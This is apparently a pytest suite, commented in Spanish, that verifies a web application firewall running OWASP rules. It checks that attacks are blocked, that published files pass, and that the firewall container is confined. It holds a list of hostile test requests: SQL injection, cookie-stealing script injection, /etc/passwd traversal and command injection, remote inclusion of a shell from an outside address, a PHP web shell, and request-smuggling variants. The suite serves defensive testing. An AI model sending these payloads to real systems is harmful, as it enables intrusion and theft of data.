"""The web application firewall: it stops attacks by every road, and lets every file of the site pass."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest
from patience import send_patiently
from testinfra.host import Host
from web_fixtures import request

from corte.format import limits
from difusor.servers.rawhttp import send
from difusor.suite.waiting import until

Expect = Callable[[str], dict[str, Any]]
Record = Callable[[object], None]
Container = dict[str, Any]

ATTACKS = {
    "inyección SQL": "?id=1%27%20OR%20%271%27=%271%27--%20",
    "inyección SQL con UNION": "?id=-1%20UNION%20SELECT%20user,password%20FROM%20users",
    "guion en un parámetro": "?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "guion en un atributo": "?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "recorrido de carpetas": "?archivo=../../../../etc/passwd",
    "recorrido de carpetas codificado": "?archivo=..%252f..%252fetc%252fpasswd",
    "órdenes al sistema": "?host=127.0.0.1;cat%20/etc/passwd",
    "órdenes al sistema con $()": "?host=$(/bin/cat%20/etc/passwd)",
    "inclusión remota": "?pagina=http://203.0.113.7/shell.txt?",
    "código PHP": "?q=%3C?php%20system($_GET[c]);?%3E",
    "clases de Java": "?q=java.lang.Runtime.getRuntime().exec(1)",
    "archivos de administración": ".git/config",
    "secretos de la aplicación": ".env",
    "respaldos": "wp-config.php.bak",
    "división de la respuesta": "?q=a%0d%0aSet-Cookie:%20sesion=1",
}
ORIGINS = {"archive": "archivo de sus autores", "distribution": "paquete de Debian"}
FIRST_SUPPORTED = 4  # version 3.3 lost its authors' support in 2026
SECRET = "marca-del-ataque"
WITNESS = "testigo"  # in a harmless request, to prove that the application logs what reaches it
PAYLOAD = f"<script>{SECRET}</script>"


@pytest.fixture
def container(host: Host) -> Container:
    """Return what `docker inspect` says of the WAF container; fail unless there is exactly one."""
    names = host.check_output("docker ps --filter label=prep-difusor.role=waf --format '{{.Names}}'").split()
    assert len(names) == 1, f"se esperaba un contenedor del WAF y hay {len(names)}"
    return until(
        lambda: json.loads(host.check_output(f"docker inspect {names[0]}"))[0],
        lambda inspected: inspected["State"]["Health"]["Status"] != "starting",
        what="el WAF tenga un resultado de su propia comprobación",
    )


@pytest.mark.xdist_group("limits")
@pytest.mark.clause("RED-07")
@pytest.mark.usefixtures("open_gate")
def test_attacks_are_refused(host: Host, variables: dict[str, Any], expect: Expect, record_evidence: Record) -> None:
    """El WAF rechaza ataques clásicos: inyección, guiones, recorrido de carpetas, órdenes, archivos prohibidos."""
    answers = send(host, variables, [request(variables, path) for path in ATTACKS.values()])
    found = {name: answer["statuses"] for name, answer in zip(ATTACKS, answers, strict=True)}
    record_evidence(found)
    passed = [name for name, statuses in found.items() if statuses[0] not in expect("RED-07")["blocked_status"]]
    assert not passed, f"pasaron: {passed}"


@pytest.mark.xdist_group("limits")
@pytest.mark.clause("RED-07")
@pytest.mark.usefixtures("open_gate")
def test_no_attack_is_smuggled_past_the_waf(host: Host, variables: dict[str, Any], record_evidence: Record) -> None:
    """Ningún ataque llega a la aplicación por otro camino: codificación, cookies, cuerpos, URI absoluta, cabeceras."""
    base, name = variables["difusor_path"], variables["difusor_fqdn"]
    coded = quote(PAYLOAD)
    lines = [
        f"GET {base}?q={coded} HTTP/1.1",
        f"GET {base}?fbclid={coded} HTTP/1.1",
        f"GET {base}index.html?fbclid=a&q={coded} HTTP/1.1",
        f"GET https://{name}{base}?q={coded} HTTP/1.1",
        f"GET https://{name}?q={coded} HTTP/1.1",
        f"GET {base}datos/corte.json?q={coded} HTTP/1.1",
        f"GET {base}datos/{coded}.json HTTP/1.1",
        f"GET {base}index.html/{coded}.html HTTP/1.1",
        f"GET {base}/index.html?q={coded} HTTP/1.1",
        f"GET {base}.//index.html?q={coded} HTTP/1.1",
        f"GET {base}%69ndex.html?q={coded} HTTP/1.1",
        f"GET {base}datos/..;/index.html?q={coded} HTTP/1.1",
        f"GET {base}_fast/?q={coded} HTTP/1.1",
        f"GET {base}_aviso/../?q={coded} HTTP/1.1",
        f"GET {base}?q={PAYLOAD} HTTP/1.1",
        f"GET {base}?q=%00{coded} HTTP/1.0",
    ]
    texts = [f"{line}\r\nHost: {name}\r\nConnection: close\r\n\r\n" for line in lines]
    texts += [
        request(variables, "", f"Cookie: a={PAYLOAD}"),
        request(variables, "", f"Content-Length: {len(PAYLOAD)}") + PAYLOAD,
        request(variables, "", "Transfer-Encoding: chunked") + f"{len(PAYLOAD):x}\r\n{PAYLOAD}\r\n0\r\n\r\n",
        request(variables, "", f"X-Original-URL: /?q={coded}"),
        request(variables, "", f"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\nX-Rewrite-URL: {coded}"),
        f"GET {base} HTTP/1.1\r\nHost: {name}\r\nHost: {SECRET}\r\nConnection: close\r\n\r\n",
        request(variables, f"?revision={WITNESS}"),
    ]
    since = host.check_output("date --utc +%Y-%m-%dT%H:%M:%SZ")
    answers = send_patiently(host, variables, texts)  # what nginx refuses for its pace never met the WAF
    application = host.check_output("docker ps --filter label=prep-difusor.role=prep --format '{{.Names}}'")
    # The harmless request is sent last: once it is in the log, all that reached the application before is there too.
    seen = until(
        lambda: host.check_output("docker logs --since %s %s 2>&1", since, application),
        lambda log: WITNESS in log,
        what="la bitácora de la aplicación diga qué recibe",
    )
    record_evidence(f"{len(texts) - 1} intentos y un testigo: {[answer['statuses'] for answer in answers]}")
    assert SECRET not in seen, "un ataque llegó a la aplicación"
    assert not any(SECRET in answer["body"] for answer in answers), "un ataque volvió en la respuesta"


@pytest.mark.xdist_group("limits")
@pytest.mark.clause("RED-07", "DG-02")
@pytest.mark.usefixtures("open_gate")
def test_everything_published_passes_the_waf(host: Host, variables: dict[str, Any], record_evidence: Record) -> None:
    """El WAF no estorba: deja pasar cada archivo del corte y de la página aun cuando lo revisa."""
    files = "find -L /srv/prep/publico/actual -type f ! -name '*.gz' -printf '%P\\n'"
    published = host.check_output(files).splitlines()
    page = send(host, variables, [request(variables, "")])[0]["body"]
    linked = [path for path in re.findall(r'(?:href|src)="([^"#]+)"', page) if not re.match(r"[a-z]+:|/", path)]
    paths = ["", "index.html", *linked, *published]
    # A harmless argument sends each request through the WAF.
    texts = [request(variables, f"{quote(path)}?revision=1").replace("GET", "HEAD", 1) for path in paths]
    found = dict(zip(paths, (answer["statuses"] for answer in send_patiently(host, variables, texts)), strict=True))
    refused = {path: statuses for path, statuses in found.items() if statuses != [200]}
    record_evidence(f"{len(paths)} rutas revisadas, {len(refused)} rechazadas")
    assert not refused


@pytest.mark.xdist_group("limits")
@pytest.mark.clause("RED-07")
@pytest.mark.usefixtures("open_gate")
def test_only_the_cortes_own_files_bypass_the_waf(
    host: Host, variables: dict[str, Any], record_evidence: Record
) -> None:
    """Sin revisión se sirve solo lo que el corte contiene: otro nombre no existe, otra forma pasa por el WAF."""
    mark = host.check_output("date +%s%N")
    paths = [
        f"datos/corte.json?fbclid={mark}",
        f"datos/{mark}.json",
        f"descargas/{mark}.json",
        f"datos/corte.json.gz?x={mark}",  # the compressed copy is on the disk, but is no file of the corte
        f"datos/corte.json?x={mark}",
        f"corte.json/{mark}.json",
        f"datos/{mark}.json.gz",
    ]
    requests = [request(variables, path) for path in paths]
    statuses = [answer["statuses"] for answer in send_patiently(host, variables, requests)]

    def logged() -> list[re.Match[str]]:
        shown = host.run("grep --no-filename -F %s /var/log/nginx/access.log", mark).stdout
        found = [re.search(rf"{re.escape(path)} .* fast=(\d) .* upstream=(\S+)", shown) for path in paths]
        return [each for each in found if each]

    found = until(logged, lambda found: len(found) == len(paths), what="nginx anote cada solicitud", every=0.5)
    roads = [f"rápido={each[1]}, aplicación={each[2] != '-'}" for each in found]
    record_evidence(dict(zip(paths, roads, strict=True)))
    disk, inspected = "rápido=1, aplicación=False", "rápido=0, aplicación=True"
    assert roads == [disk] * 3 + [inspected] * 4
    assert statuses == [[200], [404], [404], [404], [200], [404], [404]]


@pytest.mark.clause("RED-07")
def test_waf_engine_blocks(host: Host, record_evidence: Record) -> None:
    """El motor bloquea (no solo registra), con el nivel y las excepciones que aquí se listan con su razón."""
    settings = host.check_output("cat /etc/waf/settings.conf /etc/waf/exclusions.conf")
    record_evidence("; ".join(line for line in settings.splitlines() if line and "Managed by" not in line))
    assert re.search(r"^SecRuleEngine On$", settings, re.MULTILINE)


@pytest.mark.clause("RED-07", "DG-04")
def test_no_corte_may_have_a_file_type_that_the_rules_refuse(
    host: Host, container: Container, record_evidence: Record
) -> None:
    """Los tipos de archivo que las reglas de OWASP niegan no se firman: todo lo que se firma se entrega."""
    rules = f"{container['Name'].lstrip('/')}:/usr/share/waf/crs/rules/REQUEST-901-INITIALIZATION.conf"
    found = re.findall(r"tx[.]restricted_extensions=([^']+)'", host.check_output("docker cp %s -", rules))
    types = {name.strip("./") for listed in found for name in listed.split()}
    record_evidence(f"{len(types)} tipos en las reglas; los que no se firman: {', '.join(limits.REFUSED_TYPES)}")
    assert types and types <= set(limits.REFUSED_TYPES)


@pytest.mark.clause("RED-07")
def test_rule_set_is_known(container: Container, record_evidence: Record) -> None:
    """El WAF aplica las reglas de OWASP (Core Rule Set) en la versión que aquí se dice, con su origen."""
    labels = container["Config"]["Labels"]
    version, origin = labels["prep-difusor.ruleset"], labels["prep-difusor.ruleset-origin"]
    ended = "" if int(version.split(".")[0]) >= FIRST_SUPPORTED else "; sus autores ya no le dan mantenimiento"
    record_evidence(f"OWASP CRS {version}, origen: {ORIGINS[origin]}{ended}")


@pytest.mark.criterion("RED-07")
def test_image_is_the_pinned_one(container: Container, variables: dict[str, Any], record_evidence: Record) -> None:
    """El contenedor del WAF corre la imagen fijada por su SHA-256."""
    image = variables["difusor_waf_image"]
    pinned = image.get("sha256") or image["reference"].split("@sha256:")[-1]
    record_evidence(f"{container['Config']['Image']} (fijada: {pinned})")
    assert container["Config"]["Image"].endswith(pinned[:12])


@pytest.mark.criterion("RED-07")
def test_container_is_confined(host: Host, container: Container, record_evidence: Record) -> None:
    """El WAF corre sin red, sin privilegios y sin poder escribir más que su enchufe y su carpeta temporal."""
    limits, pid = container["HostConfig"], container["State"]["Pid"]
    lines = host.check_output(f"cat /proc/{pid}/status").splitlines()
    status = dict(line.split(":\t", 1) for line in lines if ":\t" in line)
    interfaces = host.check_output(f"awk 'NR > 2 {{print $1}}' /proc/{pid}/net/dev").split()
    record_evidence(
        f"red {limits['NetworkMode']} {interfaces}, uid {status['Uid'].split()[0]}, capacidades {status['CapEff']}, "
        f"NoNewPrivs {status['NoNewPrivs']}, Seccomp {status['Seccomp']}, memoria {limits['Memory'] >> 20} MiB"
    )
    assert limits["NetworkMode"] == "none"
    assert interfaces == ["lo:"]
    assert limits["ReadonlyRootfs"] is True
    assert not limits["Privileged"]
    assert status["Uid"].split() == ["10002"] * 4
    assert int(status["CapEff"], 16) == 0
    assert status["NoNewPrivs"] == "1"
    assert status["Seccomp"] == "2"
    assert 0 < limits["Memory"] == limits["MemorySwap"]
    assert limits["PidsLimit"] > 0
    assert [mount["Destination"] for mount in container["Mounts"] if mount["RW"]] == ["/run/waf"]


@pytest.mark.criterion("RED-07")
def test_container_recovers(container: Container, record_evidence: Record) -> None:
    """El WAF está sano según su propia comprobación y vuelve solo tras un reinicio."""
    health, policy = container["State"]["Health"]["Status"], container["HostConfig"]["RestartPolicy"]["Name"]
    record_evidence(f"{health}, reinicio {policy}")
    assert health == "healthy"
    assert policy in ("unless-stopped", "always")
